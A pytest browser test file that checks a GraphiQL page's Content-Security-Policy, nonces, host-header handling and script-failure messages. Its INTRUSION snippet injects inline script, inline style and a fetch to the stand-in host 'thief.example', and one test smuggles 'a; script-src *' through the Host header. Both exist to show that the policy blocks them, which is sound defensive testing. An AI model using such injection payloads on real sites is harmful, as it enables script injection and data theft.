"""Check what the page may load and do, and what it says when it cannot."""

import json
import re
from pathlib import Path

import pytest
from playwright.sync_api import Browser, expect
from starlette.requests import Request

from server.web.graphiql.page import Page
from tests.acceptance.conftest import Serve
from tests.support.browser.chromium import Visit, visit
from tests.support.browser.graphiql_http import get, policy
from tests.support.processes.process_table import until
from tests.support.processes.server_process import ServerProcess

pytestmark = pytest.mark.browser

INTRUSION = """
() => {
  document.body.insertAdjacentHTML("beforeend",
    "<p style='color: red' onclick='stolen = true'>bait</p><style>p { top: 1px }</style>");
  document.querySelector("body > p").click();
  const script = document.createElement("script");
  script.textContent = "stolen = true";
  document.body.append(script);
  fetch("https://thief.example/").catch(() => {});
}
"""


def violations(seen: Visit) -> set[str]:
    """Return the directives that something violated."""
    found = (re.search(r"policy: (\S+)", one) for one in seen.complaints)
    return {one.group(1) for one in found if one}


def test_the_page_may_load_nothing_but_our_own_files(
    running: ServerProcess, built: list[str]
) -> None:
    page = get(f"{running.url}/graphql")

    host = running.url.removeprefix("http://")
    assert policy(page) == {
        "default-src": ["'none'"],
        "script-src": ["'self'"],
        "style-src": ["'self'", "NONCE"],
        "connect-src": ["'self'", f"ws://{host}", f"wss://{host}"],
        "worker-src": ["'self'"],
        "img-src": ["'self'", "data:"],
        "font-src": ["'self'", "data:"],
        "base-uri": ["'none'"],
        "form-action": ["'none'"],
        "frame-ancestors": ["'none'"],
    }
    assert page.headers["referrer-policy"] == "same-origin"
    assert page.headers["x-content-type-options"] == "nosniff"
    assert page.headers["cache-control"] == "no-cache"
    assert "Accept" in page.headers["vary"]
    assert "https:" not in page.text
    assert "unpkg" not in page.text


def test_no_two_pages_have_the_same_nonce(running: ServerProcess) -> None:
    policies = {get(f"{running.url}/graphql").headers["content-security-policy"] for _ in range(3)}

    assert len(policies) == 3


def test_a_host_that_is_none_gets_no_page_and_no_place_in_the_policy(serve: Serve) -> None:
    host = "a; script-src *"
    headers = [(b"host", host.encode())]

    refused = get(f"{serve(ALLOWED_HOSTS='*').url}/graphql", host=host)
    page = Page().response(Request({"type": "http", "headers": headers}))

    assert refused.status_code == 400
    assert "connect-src 'self';" in page.headers["content-security-policy"]
    assert "script-src 'self'" in page.headers["content-security-policy"]
    assert host not in page.headers["content-security-policy"]


def test_the_page_loads_what_was_built_last(tmp_path: Path) -> None:
    """An older build may have left other files in the folder."""
    for name in ("main-NEW.js", "main-OLD.js", "main-NEW.css", "main-OLD.css"):
        (tmp_path / name).touch()
    manifest = {"script": "main-NEW.js", "style": "main-NEW.css"}
    (tmp_path / "manifest.json").write_text(json.dumps(manifest))

    page = Page(tmp_path).response(Request({"type": "http", "headers": []}))

    loaded = re.findall(r'(?:src|href)="graphiql/built/([^"]+)"', bytes(page.body).decode())
    assert sorted(loaded) == ["main-NEW.css", "main-NEW.js"]


def test_what_the_policy_forbids_does_not_happen(
    browser: Browser, running: ServerProcess, built: list[str]
) -> None:
    """Injected markup gets no script, no style and no request to another host."""
    seen = visit(browser, running.url)
    seen.page.goto(f"{running.url}/graphql")

    seen.page.evaluate(INTRUSION)

    until(lambda: seen.page.title() and len(violations(seen)) == 5, "five violations")
    assert violations(seen) == {
        "connect-src",
        "script-src-attr",
        "script-src-elem",
        "style-src-attr",
        "style-src-elem",
    }
    assert seen.page.evaluate("typeof stolen") == "undefined"
    assert seen.elsewhere == []
    seen.page.context.close()


def test_a_script_that_does_not_come_is_named(
    browser: Browser, running: ServerProcess, built: list[str]
) -> None:
    (main,) = (name for name in built if name.startswith("main-"))
    address = f"{running.url}/graphiql/built/{main}"
    seen = visit(browser, running.url)
    seen.page.route(address, lambda route: route.abort())

    seen.page.goto(f"{running.url}/graphql")

    expect(seen.page.get_by_text(f"Loading … {address} cannot be loaded.")).to_be_visible()
    seen.page.context.close()


def test_a_script_that_fails_is_quoted(
    browser: Browser, running: ServerProcess, built: list[str]
) -> None:
    seen = visit(browser, running.url)
    broken = "throw new Error('of this browser')"
    seen.page.route(
        "**/built/main-*.js",
        lambda route: route.fulfill(body=broken, content_type="text/javascript"),
    )

    seen.page.goto(f"{running.url}/graphql")

    expect(seen.page.get_by_text("Error: of this browser")).to_be_visible()
    seen.page.context.close()


def test_without_scripts_the_page_says_that_it_needs_them(
    browser: Browser, running: ServerProcess
) -> None:
    page = browser.new_page(java_script_enabled=False)

    page.goto(f"{running.url}/graphql")

    expect(page.locator("#graphiql > noscript > p")).to_be_visible()
    expect(page.locator("#graphiql > p")).to_be_hidden()
    page.context.close()
